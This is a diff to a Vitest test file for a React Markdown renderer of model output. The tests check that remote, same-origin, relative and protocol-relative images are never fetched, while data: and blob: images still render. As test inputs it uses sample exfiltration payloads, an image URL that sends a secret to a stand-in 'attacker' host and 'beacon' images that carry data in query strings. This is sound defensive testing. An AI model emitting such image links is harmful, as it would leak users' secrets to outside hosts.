@@ -1,5 +1,5 @@
 import { renderToString } from 'react-dom/server';
-import { describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import { Markdown } from './Markdown';
 
 const render = (text: string) => renderToString(<Markdown>{text}</Markdown>);
@@ -33,8 +33,26 @@ describe('markdown from a model', () => {
     const html = render('![](https://attacker/?q=secret)');
     expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
     expect(html).not.toMatch(/src="https?:/i);
-    expect(html).toContain('Remote image, click to load');
-    expect(html).toContain('https://attacker/?q=secret');
+    expect(html).toContain(
+      'Image: <span class="font-mono break-all">https://attacker/?q=secret</span> — click to load',
+    );
+  });
+
+  describe('on the page of the app', () => {
+    afterEach(() => {
+      vi.unstubAllGlobals();
+    });
+
+    it('never fetches a same-origin or relative image either (it could carry data to the host)', () => {
+      const origin = 'http://127.0.0.1:4173';
+      vi.stubGlobal('window', { location: { href: `${origin}/#/inspect`, origin } });
+      for (const src of ['/anything?d=secret', `${origin}/mock/v1?d=secret`, 'pixel.png?d=1']) {
+        const html = render(`![beacon](${src})`);
+        expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
+        expect(html).toContain('Image &quot;beacon&quot;: ');
+        expect(html).toContain('— click to load');
+      }
+    });
   });
 
   it('never fetches a protocol-relative image either', () => {
@@ -45,6 +63,7 @@ describe('markdown from a model', () => {
   it('shows data: images, which load nothing remote', () => {
     const html = render('![dot](data:image/png;base64,iVBORw0KGgo=)');
     expect(html).toMatch(/<img[^>]*src="data:image\/png;base64,iVBORw0KGgo="/);
+    expect(render('![b](blob:http://127.0.0.1/0f2a)')).toMatch(/<img[^>]*src="blob:/);
   });
 
   it('opens links in a new tab without referrer and shows the full URL', () => {
